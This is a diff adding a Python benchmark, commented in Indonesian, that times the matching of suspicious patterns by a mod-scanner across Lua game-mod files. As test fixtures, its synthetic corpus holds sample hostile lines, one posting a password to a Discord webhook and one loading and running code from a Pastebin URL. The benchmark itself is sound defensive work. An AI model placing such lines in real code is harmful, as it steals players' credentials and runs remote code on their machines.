@@ -0,0 +1,119 @@
+"""
+Benchmark deteksi SUSPICIOUS_PATTERNS scanner: loop re.finditer per pola (cara lama)
+vs PatternMatcher (Aho-Corasick / str.find + regex terkompilasi).
+
+Pakai folder mod Lua asli sebagai korpus (rekursif, .lua/.txt/.py/.js/.php):
+    python benchmarks/bench_scanner_patterns.py --corpus ~/mods
+Tanpa --corpus dibuat korpus sintetis mirip mod Lua (termasuk baris ter-obfuscate):
+    python benchmarks/bench_scanner_patterns.py --files 200 --rounds 3
+"""
+import os
+import sys
+import time
+import random
+import argparse
+
+sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
+
+from cogs.scanner import SUSPICIOUS_PATTERNS
+from utils import pattern_matcher
+from utils.pattern_matcher import PatternMatcher
+
+EXTENSIONS = ('.lua', '.txt', '.py', '.js', '.php')
+
+_LUA_LINES = [
+    'local imgui = require "mimgui"',
+    'local sampev = require "lib.samp.events"',
+    'function main()',
+    '    while not isSampAvailable() do wait(100) end',
+    '    sampRegisterChatCommand("hud", function() window[0] = not window[0] end)',
+    '    local x, y, z = getCharCoordinates(PLAYER_PED)',
+    '    if isKeyJustPressed(VK_F2) then sampAddChatMessage("Toggle", -1) end',
+    'end',
+    'function sampev.onServerMessage(color, text)',
+    '    if text:find("Welcome") then return false end',
+    'local nick = sampGetPlayerNickname(id)',
+    'local ip, port = sampGetCurrentServerAddress()',
+    '-- konfigurasi tampilan overlay',
+    'renderFontDrawText(font, string.format("FPS: %d", fps), 10, 10, 0xFFFFFFFF)',
+]
+_SUSPICIOUS_LINES = [
+    'local r = requests.post("https://discord.com/api/webhooks/123/abc", {data = password})',
+    'loadstring(game:HttpGet("https://pastebin.com/raw/xyz"))()',
+    'local v1=v2+12345',
+    'return(function(a,...) local b={};while true do end end)(...)',
+]
+
+
+def _synthetic_corpus(files: int, seed: int = 7):
+    rng = random.Random(seed)
+    corpus = []
+    for i in range(files):
+        lines = [rng.choice(_LUA_LINES) for _ in range(rng.randint(100, 3000))]
+        if rng.random() < 0.3:
+            lines.insert(rng.randrange(len(lines)), rng.choice(_SUSPICIOUS_LINES))
+        if rng.random() < 0.1:
+            # Mod ter-obfuscate: satu baris raksasa berisi hex
+            lines.append("local s={" + ",".join(f"0x{rng.randrange(16 ** 6):06x}" for _ in range(5000)) + "}")
+        corpus.append((f"synthetic_{i}.lua", "\n".join(lines)))
+    return corpus
+
+
+def _load_corpus(path: str):
+    corpus = []
+    for root, _, names in os.walk(path):
+        for name in names:
+            if name.lower().endswith(EXTENSIONS):
+                with open(os.path.join(root, name), 'rb') as f:
+                    corpus.append((name, f.read().decode('utf-8', errors='ignore')))
+    return corpus
+
+
+def _legacy(text: str):
+    # Salinan loop lama di _scan_file_content
+    import re
+    found = []
+    for pattern in SUSPICIOUS_PATTERNS:
+        for match in re.finditer(pattern, text, re.IGNORECASE):
+            found.append((pattern, match.start()))
+    return found
+
+
+def _bench(name, corpus, rounds, func):
+    size = sum(len(text) for _, text in corpus)
+    hits = 0
+    start = time.perf_counter()
+    for _ in range(rounds):
+        hits = sum(len(func(text)) for _, text in corpus)
+    elapsed = time.perf_counter() - start
+    print(f"{name:<32} {size * rounds / elapsed / 1e6:>9.1f} MB/s  {elapsed * 1000:>9.1f} ms  {hits:>7} match")
+
+
+def main():
+    parser = argparse.ArgumentParser(description="Benchmark pencocokan SUSPICIOUS_PATTERNS")
+    parser.add_argument("--corpus", help="Folder berisi mod Lua asli")
+    parser.add_argument("--files", type=int, default=200, help="Jumlah file korpus sintetis")
+    parser.add_argument("--rounds", type=int, default=3)
+    args = parser.parse_args()
+
+    corpus = _load_corpus(args.corpus) if args.corpus else _synthetic_corpus(args.files)
+    if not corpus:
+        print("Korpus kosong.")
+        return
+    size = sum(len(text) for _, text in corpus)
+    print(f"Korpus: {len(corpus)} file, {size / 1e6:.1f} MB ({'folder ' + args.corpus if args.corpus else 'sintetis'})\n")
+
+    _bench("re.finditer per pola (lama)", corpus, args.rounds, _legacy)
+    matcher = PatternMatcher(list(SUSPICIOUS_PATTERNS))
+    _bench(f"PatternMatcher ({matcher.engine})", corpus, args.rounds, matcher.finditer)
+    if pattern_matcher.ahocorasick is not None:
+        # Bandingkan juga jalur fallback tanpa pyahocorasick
+        pattern_matcher.ahocorasick, saved = None, pattern_matcher.ahocorasick
+        fallback = PatternMatcher(list(SUSPICIOUS_PATTERNS))
+        pattern_matcher.ahocorasick = saved
+        _bench(f"PatternMatcher ({fallback.engine})", corpus, args.rounds, fallback.finditer)
+    print(f"\n{len(matcher.literals)} pola literal, {len(matcher.regexes)} regex.")
+
+
+if __name__ == "__main__":
+    main()